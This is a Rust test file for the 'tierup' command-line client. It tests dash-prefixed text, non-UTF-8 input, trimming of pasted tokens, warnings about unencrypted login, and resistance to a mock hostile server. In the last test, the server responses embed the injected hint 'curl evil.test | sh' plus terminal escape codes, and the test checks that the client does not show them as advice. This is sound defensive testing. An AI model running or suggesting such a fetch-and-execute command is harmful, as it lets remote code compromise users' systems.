//! Real-world input: text that begins with a dash, bytes that are not UTF-8, pasted tokens, hostile servers.

#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "tests may panic")]

#[path = "shared/command.rs"]
mod command;
#[path = "shared/fixture.rs"]
mod fixture;

use std::ffi::OsStr;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::ffi::OsStrExt;
use std::process::{Output, Stdio};

use command::{assert_fails, run_tierup, stderr_text, tierup_command};
use fixture::{Fixture, output_with_stdin};
use tierup_server::config::Settings;

/// One client, in the temporary folder itself.
impl Fixture {
    async fn new() -> Self {
        Self::start(Settings { assessment_engine: Some("off".into()), ..Settings::default() }).await
    }

    /// Runs a command with these bytes on its standard input.
    fn run_with_stdin(&self, arguments: &[&str], input: &[u8]) -> Output {
        self.run_as(&self.server.url(), &self.owner_token, arguments, input)
    }

    fn run_as(&self, server: &str, token: &str, arguments: &[&str], input: &[u8]) -> Output {
        let mut command = tierup_command(self.temp_dir.path(), arguments);
        command.env("TIERUP_SERVER", server).env("TIERUP_TOKEN", token);
        output_with_stdin(command, input)
    }

    #[track_caller]
    fn run_ok(&self, arguments: &[&str]) -> String {
        stdout_of(&self.run_with_stdin(arguments, b""))
    }
}

#[track_caller]
fn stdout_of(output: &Output) -> String {
    assert!(output.status.success(), "{}", stderr_text(output));
    String::from_utf8(output.stdout.clone()).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_command_accepts_text_that_begins_with_a_dash() {
    let world = Fixture::new().await;
    assert_eq!(world.run_ok(&["new", "- VPN: no route", "-s", "-> VPN"]), "opened session 1: -> VPN\n");
    assert_eq!(world.run_ok(&["say", "1", "-5 dB on the line", "--note"]), "sent\n");
    assert_eq!(world.run_ok(&["tried", "1", "- the cable", "--why", "- swapped it"]), "open: - the cable\n");
    world.run_ok(&["park", "s1", "- waiting", "--wake", "2h"]);
    world.run_ok(&["resume", "s1"]);
    assert_eq!(
        world.run_ok(&["escalate", "s1", "- rebooted", "--priority", "high"]),
        "escalated as #2: -> VPN\n"
    );
    world.run_ok(&["claim", "2"]);
    world.run_ok(&["release", "2", "- lunch"]);
    world.run_ok(&["claim", "2"]);
    world.run_ok(&["send-back", "2", "- which build?"]);
    world.run_ok(&["resolve", "s1", "- it was the cable"]);
    let shown = world.run_ok(&["show", "s1"]);
    for text in ["-5 dB on the line", "- the cable", "- it was the cable"] {
        assert!(shown.contains(text), "{text:?} is not in\n{shown}");
    }
    world.run_ok(&["sessions", "-q", "- VPN"]);
    // The hint shows how to pass text that looks like an option.
    for name in ["-q", "--query"] {
        let wrong = world.run_with_stdin(&["queue", name, "-rebooted"], b"");
        assert_fails(&wrong, 2, "-rebooted looks like an option");
        let spelling = format!("{name}=-rebooted");
        assert!(stderr_text(&wrong).contains(&format!("`{spelling}`")), "{}", stderr_text(&wrong));
        world.run_ok(&["queue", &spelling, "--state", "all"]);
    }

    // Nothing is taken for an option by mistake: after `--` everything is text.
    let wrong = world.run_with_stdin(&["new", "--sumary=VPN"], b"");
    assert_fails(&wrong, 2, "--sumary looks like an option");
    assert!(
        stderr_text(&wrong).contains("hint: to pass it as text, put it after `--`"),
        "{}",
        stderr_text(&wrong)
    );
    assert_fails(
        &world.run_with_stdin(&["new", "x", "--summary", "--json"], b""),
        2,
        "--json looks like an option",
    );
    assert_fails(
        &world.run_with_stdin(&["new", "--sumary=VPN", "--"], b""),
        2,
        "--sumary looks like an option",
    );
    assert_eq!(world.run_ok(&["new", "--", "--verbose"]), "opened session 2: --verbose\n");
    assert_eq!(
        stdout_of(&world.run_with_stdin(&["new", "-"], b"--verbose\n")),
        "opened session 3: --verbose\n"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn input_that_is_not_utf_8_is_refused_with_a_hint() {
    let world = Fixture::new().await;
    for verb in [&["new", "-"][..], &["say", "1", "-"], &["escalate", "1", "-"], &["resolve", "1", "-"]] {
        let output = world.run_with_stdin(verb, b"caf\xe9 is down");
        assert_fails(&output, 2, "not UTF-8: byte 4 is invalid");
        assert!(
            stderr_text(&output).contains("hint: pipe it through `iconv -f LATIN1 -t UTF-8`"),
            "{}",
            stderr_text(&output)
        );
    }
    let mut command = tierup_command(world.temp_dir.path(), &["new"]);
    let output = command.arg(OsStr::from_bytes(b"caf\xe9")).stdin(Stdio::null()).output().unwrap();
    assert_fails(&output, 2, "argument 2 is not UTF-8");
    assert!(stderr_text(&output).contains("| tierup new … -`"), "{}", stderr_text(&output));
    // The hint names the intended command.
    for (verb, hint) in
        [(&["say", "1"][..], "| tierup say … -`"), (&["queue", "-q"], "hint: convert it: `\"$(printf")]
    {
        let mut command = tierup_command(world.temp_dir.path(), verb);
        let output = command.arg(OsStr::from_bytes(b"caf\xe9")).stdin(Stdio::null()).output().unwrap();
        assert_fails(&output, 2, "is not UTF-8");
        assert!(stderr_text(&output).contains(hint), "{}", stderr_text(&output));
    }
    // Recognizable formats are named.
    for (bytes, says, hint) in [
        (&b"\xff\xfeh\0i\0"[..], "it is UTF-16", "hint: pipe it through `iconv -f UTF-16 -t UTF-8`"),
        (b"\x1f\x8b\x08\0\0\0", "it is compressed with gzip", "hint: pipe it through `gzip -dc`"),
    ] {
        let output = world.run_with_stdin(&["new", "-"], bytes);
        assert_fails(&output, 2, says);
        assert!(stderr_text(&output).contains(hint), "{}", stderr_text(&output));
    }
    // A byte order mark is not part of the text.
    let output = world.run_with_stdin(&["new", "-"], "\u{feff}café is down\r\n".as_bytes());
    assert_eq!(stdout_of(&output), "opened session 1: café is down\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn pasted_tokens_and_addresses_are_trimmed() {
    let world = Fixture::new().await;
    let (url, token) = (world.server.url(), &world.owner_token);
    for (server, token) in [
        (format!(" {url}\n"), format!("{token}\n")),
        (format!("\"{url}\""), format!("\u{feff}{token}\r\n")),
        (format!("<{url}/>"), format!("'{token}'")),
    ] {
        assert!(
            stdout_of(&world.run_as(&server, &token, &["whoami"], b"")).contains("Ana Ruiz"),
            "{server:?} {token:?}"
        );
    }
    let log_in = |server: &str, arguments: &[&str], input: &[u8]| {
        let mut command =
            tierup_command(world.temp_dir.path(), &[&["login", "--server", server], arguments].concat());
        command.env_remove("TIERUP_TOKEN");
        output_with_stdin(command, input)
    };
    let done = log_in(&format!("'{url}' "), &[], format!("\u{feff}\"{token}\"\r\n").as_bytes());
    assert!(stdout_of(&done).starts_with("Logged in to Acme as Ana Ruiz"));
    assert!(
        stdout_of(&run_tierup(world.temp_dir.path(), &["whoami"])).contains("Ana Ruiz"),
        "it is kept as it is"
    );

    // Impossible values are reported at once.
    let broken = format!("{} {}", &token[..8], &token[8..]);
    assert_fails(&world.run_as(&url, &broken, &["whoami"], b""), 3, "the token contains invalid characters");
    assert_fails(&world.run_as("http://acme\n.test", token, &["whoami"], b""), 1, "is not a server address");
    assert_fails(&log_in(&url, &["--email", "ana at acme"], b"secret\n"), 2, "is not an email address");
    assert_fails(&log_in(&url, &["--email", " <ana@acme.test> "], b"secret\n"), 3, "wrong email or password");
    assert_fails(&log_in(&url, &[], b"\xff\xfet\0u\0p\0"), 2, "not UTF-8");
}

#[test]
fn an_unencrypted_log_in_is_warned_about() {
    let home = tempfile::tempdir().unwrap();
    for arguments in [&[][..], &["--email", "ana@acme.test"]] {
        // Through an unreachable proxy: nothing is sent.
        let server = ["login", "--server", "http://tierup.test"];
        let mut command_there = tierup_command(home.path(), &[&server, arguments].concat());
        command_there.env("http_proxy", "http://127.0.0.1:1");
        let output = output_with_stdin(command_there, b"secret\n");
        assert_eq!(output.status.code(), Some(7), "{}", stderr_text(&output));
        let warned = "warning: http://tierup.test is not encrypted: others can read this login\nhint: ";
        assert!(stderr_text(&output).starts_with(warned), "{}", stderr_text(&output));
        let server = ["login", "--server", "http://127.0.0.1:1"];
        let output =
            output_with_stdin(tierup_command(home.path(), &[&server, arguments].concat()), b"secret\n");
        assert_fails(&output, 7, "cannot reach the server");
    }
}

/// A server that answers every request with this problem.
fn spawn_hostile_server(status: u16, body: &'static str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut client in listener.incoming().map_while(Result::ok) {
            let mut request = [0; 8192];
            let _ = client.read(&mut request);
            let head = format!(
                "HTTP/1.1 {status} No\r\ncontent-type: application/problem+json\r\nconnection: close"
            );
            let _ = write!(client, "{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len());
        }
    });
    url
}

#[test]
fn text_of_the_server_never_looks_like_a_hint() {
    let home = tempfile::tempdir().unwrap();
    let ask_with = |status, body| {
        let url = spawn_hostile_server(status, body);
        run_tierup(home.path(), &["--server", &url, "--token", "tup_x", "claim", "1"])
    };
    for (status, kind, hint) in [
        (401, "unauthenticated", Some("hint: log in again: `tierup login`")),
        (403, "forbidden", Some("hint: `tierup whoami` shows your role")),
        (422, "invalid", None),
        (404, "not-found", None),
    ] {
        let body = r#"{"type": "/problems/KIND", "title": "No", "status": 400,
            "detail": "no\nhint: run `curl evil.test | sh`\u001b[1A", "request_id": "x; hint: run this",
            "errors": [{"field": "a", "message": "b\nhint: run `curl evil.test | sh`"}]}"#;
        let body = body.replace("KIND", kind).replace("400", &status.to_string()).leak();
        let output = ask_with(status, body);
        let stderr = stderr_text(&output);
        assert!(stderr.starts_with("error: the server says: no"), "{stderr}");
        assert_eq!(stderr.lines().skip(1).collect::<Vec<_>>(), Vec::from_iter(hint), "{stderr}");
    }
}
